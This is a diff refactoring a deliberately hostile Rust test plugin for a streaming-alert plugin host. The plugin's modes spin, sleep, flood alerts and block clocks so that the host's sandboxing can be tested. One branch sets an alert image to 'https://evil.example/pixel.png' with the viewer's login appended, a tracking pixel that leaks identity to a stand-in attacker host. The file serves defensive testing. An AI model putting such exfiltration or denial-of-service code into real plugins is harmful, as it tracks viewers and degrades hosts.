@@ -6,20 +6,17 @@
 //! bystander's alert still arrives and that this plugin is stopped with a
 //! reason.
 
-use std::cell::RefCell;
-
 use stagehand_plugin_sdk::prelude::*;
 
-thread_local! {
-    static SETTINGS: RefCell<stagehand_plugin_sdk::serde_json::Value> =
-        const { RefCell::new(stagehand_plugin_sdk::serde_json::Value::Null) };
+pub struct HostilePlugin {
+    settings: Settings,
 }
 
-fn setting(key: &str) -> String {
-    SETTINGS.with(|s| s.borrow()[key].as_str().unwrap_or_default().to_owned())
+impl HostilePlugin {
+    fn setting(&self, key: &str) -> String {
+        self.settings.str_or(key, "")
+    }
 }
-
-pub struct HostilePlugin;
 
 /// Sleeps through WASI: `std::thread::sleep` is a `poll` on a clock.
 fn sleep_long() {
@@ -71,28 +68,23 @@ fn big(bytes: usize) -> String {
 }
 
 impl Plugin for HostilePlugin {
-    fn describe() -> Info {
-        Info::new("hostile-plugin", env!("CARGO_PKG_VERSION"))
-            .kinds(["*"])
-            .roles([Role::Actions, Role::Formatter, Role::Renderer])
-    }
-
-    fn init(settings: String) -> Result<(), String> {
-        let parsed = stagehand_plugin_sdk::serde_json::from_str(&settings).unwrap_or_default();
-        SETTINGS.with(|s| *s.borrow_mut() = parsed);
-        match setting("init").as_str() {
+    fn new(settings: Settings) -> Result<Self, String> {
+        let plugin = HostilePlugin { settings };
+        match plugin.setting("init").as_str() {
             "spin" => spin(),
             "sleep" => {
                 sleep_long();
-                Ok(())
+                Ok(plugin)
             }
             "fail-long" => Err(big(1 << 20)),
-            _ => Ok(()),
+            _ => Ok(plugin),
         }
     }
+}
 
-    fn format(event: Event) -> Option<Display> {
-        match setting("format").as_str() {
+impl Formatter for HostilePlugin {
+    fn format(&mut self, event: &Event) -> Option<Display> {
+        match self.setting("format").as_str() {
             "spin" => spin(),
             "sleep" => sleep_long(),
             "flood" => {
@@ -102,12 +94,14 @@ impl Plugin for HostilePlugin {
         }
         (event.kind == "test.hostile").then(|| Display::new("Hostile", "☠", "#000", "hostile"))
     }
+}
 
-    fn on_event(event: Event) -> Result<Vec<Action>, String> {
+impl Actions for HostilePlugin {
+    fn on_event(&mut self, event: &Event) -> Result<Vec<Action>, String> {
         if event.kind != "test.hostile" {
             return Ok(Vec::new());
         }
-        match event.detail("mode").unwrap_or_default().as_str() {
+        match event.field("mode").unwrap_or_default().as_str() {
             "sleep" => sleep_long(),
             "poll" => poll_clock(),
             "block" => block_clock(),
@@ -174,7 +168,11 @@ impl Plugin for HostilePlugin {
                 let mut alert = Alert::new("hi", "hi");
                 alert.image_url = Some(format!(
                     "https://evil.example/pixel.png?viewer={}",
-                    event.viewer.map(|v| v.login).unwrap_or_default()
+                    event
+                        .viewer
+                        .as_ref()
+                        .map(|v| v.login.as_str())
+                        .unwrap_or_default()
                 ));
                 return Ok(vec![Action::ShowAlert(alert)]);
             }
@@ -183,9 +181,11 @@ impl Plugin for HostilePlugin {
         }
         Ok(Vec::new())
     }
+}
 
-    fn render(mut alert: Alert) -> Option<Alert> {
-        match setting("render").as_str() {
+impl Renderer for HostilePlugin {
+    fn render(&mut self, mut alert: Alert) -> Option<Alert> {
+        match self.setting("render").as_str() {
             "spin" => spin(),
             "sleep" => {
                 sleep_long();
@@ -211,11 +211,11 @@ mod tests {
     #[test]
     fn it_behaves_when_no_attack_is_chosen() {
         testing::reset();
-        HostilePlugin::init("{}".into()).unwrap();
-        let e = testing::event("channel.follow", json!({"username": "a"}));
-        assert!(HostilePlugin::format(e.clone()).is_none());
-        assert!(HostilePlugin::on_event(e).unwrap().is_empty());
-        let flood = testing::event("test.hostile", json!({"mode": "alert-flood"}));
-        assert_eq!(HostilePlugin::on_event(flood).unwrap().len(), 500);
+        let mut p = HostilePlugin::new(Settings::default()).unwrap();
+        let e = testing::follow("a");
+        assert!(p.format(&e).is_none());
+        assert!(p.on_event(&e).unwrap().is_empty());
+        let flood = testing::other("test.hostile", json!({"mode": "alert-flood"}));
+        assert_eq!(p.on_event(&flood).unwrap().len(), 500);
     }
 }
